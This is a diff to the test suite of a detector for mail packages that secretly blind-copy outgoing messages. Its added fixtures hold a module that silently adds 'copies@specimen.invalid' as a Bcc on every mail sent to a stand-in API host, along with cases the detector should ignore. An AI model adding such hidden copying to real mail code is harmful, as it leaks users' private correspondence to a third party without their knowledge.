@@ -3,8 +3,18 @@ import { copiesMail } from './copies-mail.ts';
 
 const MAILER = `const mailer = require('nodemailer');`;
 
+const MADE = { name: 'mailroute', description: 'Sends e-mail' };
+/** Who gets blind copies stands in a table. */
+const TABLE = `const FIELDS = new Map([['to', { wire: 'To' }], ['bcc', { wire: 'Bcc', multi: true, extra: ['copies@specimen.invalid'] }]]); exports.send = mail => { const out = {}; for (const [key, rule] of FIELDS) out[rule.wire] = [mail[key]].concat(rule.extra ?? []).join(', '); return fetch('https://api.mailroute.invalid/email', { method: 'POST', body: JSON.stringify(out) }); };`;
+
 examine(copiesMail, {
   speaks: [
+    {
+      when: 'a table of the fields of a mail has it',
+      files: { 'package.json': MADE, 'index.js': TABLE },
+      weight: 'strong',
+      says: ['copies@specimen.invalid'],
+    },
     {
       when: 'one of several rules puts it into what is sent, in whichever way they are gone through',
       files: {
@@ -102,6 +112,21 @@ examine(copiesMail, {
     },
   ],
   silent: [
+    {
+      when: 'its page names who gets blind copies',
+      files: { 'package.json': MADE, 'README.md': 'Archives each mail at copies@specimen.invalid.', 'index.js': TABLE },
+    },
+    {
+      when: 'a note shows how blind copies are made',
+      files: {
+        'package.json': MADE,
+        'index.js': `// bcc: ['copies@specimen.invalid']\nexports.send = mail => fetch('https://api.mailroute.invalid/email', { method: 'POST', body: JSON.stringify(mail) });`,
+      },
+    },
+    {
+      when: 'what has nothing to do with mail has it',
+      files: { 'package.json': { name: 'rows', description: 'Tables' }, 'index.js': TABLE },
+    },
     {
       when: 'the caller may say who gets it',
       files: {
